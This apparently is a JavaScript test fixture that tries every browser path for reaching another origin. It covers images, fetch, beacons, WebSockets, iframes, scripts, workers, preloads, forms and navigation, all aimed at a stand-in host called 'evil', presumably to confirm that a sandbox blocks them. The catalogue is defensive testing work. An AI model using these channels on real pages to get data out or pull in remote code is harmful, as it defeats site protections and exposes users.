// Every way that a page has to reach another origin. Each is tried on its own, so that one that throws
// hides no other.
window.tried = [];
const attempt = (name, go) => {
  try {
    const outcome = go();
    if (outcome && outcome.catch) outcome.catch(() => {});
  } catch (error) {
    name += ` threw ${error.name}`;
  }
  window.tried.push(name);
};
const add = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  return element;
};
const link = (rel, href, as) => document.head.append(Object.assign(document.createElement('link'), { rel, href, as }));

window.reach = (evil, good) => {
  const socket = evil.replace('http', 'ws');
  attempt('img', () => add('img', { src: `${evil}/img` }));
  attempt('srcset', () => add('img', { srcset: `${evil}/srcset 1x` }));
  attempt('fetch', () => fetch(`${evil}/fetch`));
  attempt('no-cors', () => fetch(`${evil}/no-cors`, { mode: 'no-cors' }));
  attempt('keepalive', () => fetch(`${evil}/keepalive`, { method: 'POST', keepalive: true, body: 'x' }));
  attempt('redirected', () => fetch(`${good}/to?${evil}/redirected`, { mode: 'no-cors' }));
  attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${evil}/xhr`);
    request.send();
  });
  attempt('beacon', () => navigator.sendBeacon(`${evil}/beacon`, 'x'));
  attempt('socket', () => new WebSocket(`${socket}/socket`));
  attempt('events', () => new EventSource(`${evil}/events`));
  attempt('frame', () => add('iframe', { src: `${evil}/frame` }));
  attempt('frame redirected', () => add('iframe', { src: `${good}/to?${evil}/frame-redirected` }));
  attempt('frame form', () => {
    add('iframe', { name: 'inner', srcdoc: '' });
    const form = add('form', { method: 'post', action: `${evil}/frame-form`, target: 'inner' });
    form.submit();
  });
  attempt('script', () => add('script', { src: `${evil}/script.js` }));
  attempt('module', () => import(`${evil}/module.js`));
  attempt('object', () => add('object', { data: `${evil}/object` }));
  attempt('embed', () => add('embed', { src: `${evil}/embed` }));
  attempt('video', () => add('video', { src: `${evil}/video.webm` }).load());
  attempt('audio', () => add('audio', { src: `${evil}/audio.ogg` }).load());
  attempt('track', () => add('video', {}).append(Object.assign(document.createElement('track'), { src: `${evil}/t.vtt` })));
  attempt('style', () => link('stylesheet', `${evil}/style.css`));
  attempt('prefetch', () => link('prefetch', `${evil}/prefetch`));
  attempt('preload', () => link('preload', `${evil}/preload`, 'image'));
  attempt('modulepreload', () => link('modulepreload', `${evil}/modulepreload.js`));
  attempt('preconnect', () => link('preconnect', evil));
  attempt('icon', () => link('icon', `${evil}/icon.png`));
  attempt('manifest', () => link('manifest', `${evil}/manifest`));
  attempt('css', () => (document.body.style.backgroundImage = `url(${evil}/css)`));
  attempt('font', () => new FontFace('evil', `url(${evil}/font.woff)`).load());
  attempt('svg', () => (add('div', {}).innerHTML = `<svg><image href="${evil}/svg" /><use href="${evil}/use#a" /></svg>`));
  attempt('worker', () => {
    const code = `fetch('${evil}/worker', { mode: 'no-cors' }); new WebSocket('${socket}/worker-socket'); importScripts('${evil}/worker.js')`;
    new Worker(URL.createObjectURL(new Blob([code])));
  });
  attempt('shared worker', () => new SharedWorker(`${evil}/shared.js`));
  attempt('ping', () => add('a', { href: '#', ping: `${evil}/ping`, textContent: 'ping' }).click());
  attempt('open', () => (window.opened = window.open(`${evil}/open`)));
  attempt('blank', () => add('a', { href: `${evil}/blank`, target: '_blank', textContent: 'blank' }).click());
  attempt('download', () => add('a', { href: `${evil}/download`, download: 'x', textContent: 'x' }).click());
};

// Ways that would leave the page, one at a time.
window.leave = {
  link: (evil) => add('a', { href: `${evil}/link`, textContent: 'link' }).click(),
  location: (evil) => (location.href = `${evil}/location`),
  replace: (evil) => location.replace(`${evil}/replace`),
  form: (evil) => add('form', { method: 'post', action: `${evil}/form` }).submit(),
  refresh: (evil) => {
    const meta = Object.assign(document.createElement('meta'), { content: `0;url=${evil}/refresh` });
    meta.httpEquiv = 'refresh';
    document.head.append(meta);
  },
  redirect: (evil, good) => (location.href = `${good}/to?${evil}/redirect`),
};
